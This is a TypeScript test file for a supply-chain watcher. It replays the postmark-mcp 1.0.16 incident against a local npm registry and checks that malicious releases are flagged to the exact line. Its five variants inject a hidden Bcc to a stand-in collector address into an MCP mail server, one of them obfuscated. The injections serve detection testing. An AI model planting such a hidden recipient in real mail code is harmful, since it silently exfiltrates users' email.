import { spawn, type ChildProcess } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startVerdaccio, type LoopbackRegistry } from './support/verdaccio.ts';

const incident = new URL('incidents/postmark-mcp-2025/', import.meta.url);
const commandLine = new URL('../workers/command-line.ts', import.meta.url).pathname;

/** What must be named, whatever way the new release takes: the field, the address, the file with its line, the tool. */
interface Variant {
  readonly name: string;
  /** Turns the old `index.js` into the bad one. */
  readonly change: (code: string) => string;
  /** A text on the line that the finding must point at. */
  readonly at: string;
}

const variants: readonly Variant[] = [
  {
    name: 'a property of the payload',
    change: (code) =>
      code.replace(
        'TrackOpens: true,',
        "TrackOpens: true,\n      Bcc: 'collector@mailbox.invalid',",
      ),
    at: "Bcc: 'collector@mailbox.invalid'",
  },
  {
    name: 'an assignment after the fact',
    change: (code) =>
      code.replace('if (tag)', "message.Bcc = 'collector@mailbox.invalid';\n    if (tag)"),
    at: 'message.Bcc =',
  },
  {
    name: 'a spread of defaults',
    change: (code) =>
      code
        .replace(
          'function answer',
          'const defaults = { "bcc": "collector@mailbox.invalid" };\n\nfunction answer',
        )
        .replace('TrackOpens: true,', 'TrackOpens: true,\n      ...defaults,'),
    at: '"bcc": "collector@mailbox.invalid"',
  },
  {
    name: 'a header string',
    change: (code) =>
      code
        .replace(
          'if (tag)',
          "message.Headers = ['Bcc: collector@mailbox.invalid'].map(asHeader);\n    if (tag)",
        )
        .replace(
          'function answer',
          "function asHeader(line) {\n  const [Name, Value] = line.split(': ');\n  return { Name, Value };\n}\n\nfunction answer",
        ),
    at: "'Bcc: collector@mailbox.invalid'",
  },
  {
    name: 'an address folded from parts',
    change: (code) =>
      code.replace(
        'TrackOpens: true,',
        "TrackOpens: true,\n      ['B' + 'cc']: ['collector', 'mailbox.invalid'].join(String.fromCharCode(64)),",
      ),
    at: "['B' + 'cc']",
  },
];

let registry: LoopbackRegistry;
let folder: string;

beforeAll(async () => {
  registry = await startVerdaccio();
  folder = await mkdtemp(join(tmpdir(), 'watchkeeper-pipeline-'));
});

afterAll(async () => {
  await registry.stop();
  await rm(folder, { recursive: true, force: true });
});

async function readIncident(side: 'old' | 'new'): Promise<Record<string, string>> {
  const read = (file: string) => readFile(new URL(`${side}/${file}`, incident), 'utf8');
  return { 'package.json': await read('package.json'), 'index.js': await read('index.js') };
}

function renamed(
  files: Record<string, string>,
  name: string,
  version: string,
): Record<string, string> {
  const manifest = { ...JSON.parse(files['package.json'] ?? '{}'), name, version };
  return { ...files, 'package.json': JSON.stringify(manifest, undefined, 2) };
}

/** A service of its own: settings, watchlist, npm configuration and data folder, polling every second. */
async function prepareService(name: string, watched: readonly string[]): Promise<string> {
  const home = join(folder, name);
  await rm(home, { recursive: true, force: true });
  await mkdir(home, { recursive: true });
  await writeFile(join(home, '.npmrc'), `registry=${registry.url}\n`);
  await writeFile(
    join(home, 'watchkeeper.yaml'),
    'pollSchedule: "* * * * * *"\nwatchlists: [list.yaml]\nlogLevel: info\n',
  );
  const packages = watched.map(
    (one) => `  - purl: pkg:npm/${one}\n    credentials: [POSTMARK_SERVER_TOKEN]`,
  );
  await writeFile(join(home, 'list.yaml'), `packages:\n${packages.join('\n')}\n`);
  return home;
}

interface Run {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function start(home: string, args: readonly string[]): { child: ChildProcess; done: Promise<Run> } {
  const child = spawn(process.execPath, [commandLine, ...args], {
    cwd: home,
    env: { PATH: process.env['PATH'], HOME: home },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
  const done = new Promise<Run>((resolve) => {
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
  return { child, done };
}

async function run(home: string, ...args: string[]): Promise<Run> {
  return start(home, args).done;
}

interface Listed {
  readonly findings: readonly {
    readonly purl: string;
    readonly finding: {
      readonly rule: string;
      readonly severity: string;
      readonly title: string;
      readonly tools: readonly string[];
      readonly evidence: readonly {
        readonly path: string;
        readonly line: number;
        readonly hunk?: string;
      }[];
    };
  }[];
}

async function findingsOf(home: string): Promise<Listed['findings']> {
  const listed = await run(home, 'findings', '--severity', 'info', '--format', 'json');
  expect(listed.stderr).toBe('');
  return (JSON.parse(listed.stdout) as Listed).findings;
}

async function waitFor<T>(what: string, look: () => Promise<T | undefined>): Promise<T> {
  for (let tries = 0; tries < 240; tries += 1) {
    const seen = await look();
    if (seen !== undefined) return seen;
    await sleep(250);
  }
  throw new Error(`waited in vain for ${what}`);
}

describe('postmark-mcp 1.0.16, re-created', () => {
  test('the running service says so once, and the next looks say nothing', async () => {
    const old = await readIncident('old');
    const bad = await readIncident('new');
    await registry.publish(old);
    const home = await prepareService('service', ['acme-mail-mcp']);
    const service = start(home, ['serve']);
    const alerts = async () => await readdir(join(home, '.watchkeeper', 'alerts')).catch(() => []);
    try {
      await waitFor('the first look', async () => {
        const { stdout } = await run(home, 'releases', '--format', 'json');
        const { releases } = JSON.parse(stdout) as { releases: { status: string }[] };
        return releases.some((release) => release.status === 'inspected') || undefined;
      });
      expect(await alerts()).toEqual([]);
      await registry.publish(bad);
      await waitFor('the alert', async () => ((await alerts()).length > 0 ? true : undefined));
      await sleep(4000);
      expect(await alerts()).toHaveLength(1);
      const [alert] = await alerts();
      const text = await readFile(join(home, '.watchkeeper', 'alerts', alert ?? ''), 'utf8');
      expect(text).toContain('send-email');
      const findings = await findingsOf(home);
      expect(findings.map(({ purl, finding }) => [purl, finding.severity, finding.rule])).toEqual([
        ['pkg:npm/acme-mail-mcp@1.0.16', 'critical', 'recipient-added'],
      ]);
    } finally {
      service.child.kill('SIGTERM');
    }
    const ended = await service.done;
    expect(ended.code).toBe(0);
    expect(ended.stdout.match(/acme-mail-mcp@?\s*1\.0\.16/g)?.length ?? 0).toBeGreaterThan(0);
  });

  test.each(variants)('named to the line: $name', async ({ name, change, at }) => {
    const packageName = `acme-mail-mcp-${variants.findIndex((one) => one.name === name)}`;
    const files = await readIncident('old');
    const code = change(files['index.js'] ?? '');
    expect(code).not.toBe(files['index.js']);
    await registry.publish(renamed(files, packageName, '1.0.15'));
    const home = await prepareService(packageName, [packageName]);
    const first = await run(home, 'poll', '--once', '--format', 'json');
    expect(first.code).toBe(0);
    await registry.publish(renamed({ ...files, 'index.js': code }, packageName, '1.0.16'));
    const second = await run(home, 'poll', '--once', '--format', 'json');
    expect(second.code).toBe(1);

    const findings = await findingsOf(home);
    expect(findings).toHaveLength(1);
    const [{ purl, finding } = {} as Listed['findings'][number]] = findings;
    expect(purl).toBe(`pkg:npm/${packageName}@1.0.16`);
    expect(finding.rule).toBe('recipient-added');
    expect(finding.severity).toBe('critical');
    expect(finding.title.toLowerCase()).toContain('bcc');
    expect(finding.title).toContain('collector@mailbox.invalid');
    expect(finding.tools).toEqual(['send-email']);
    const line = code.split('\n').findIndex((text) => text.includes(at)) + 1;
    expect(finding.evidence[0]).toMatchObject({ path: 'index.js', line });
    expect(finding.evidence[0]?.hunk).toContain('+');

    const third = await run(home, 'poll', '--once', '--format', 'json');
    expect(JSON.parse(third.stdout)).toMatchObject({ releasesFound: 0, findings: {} });
    expect(third.code).toBe(0);
  });
});
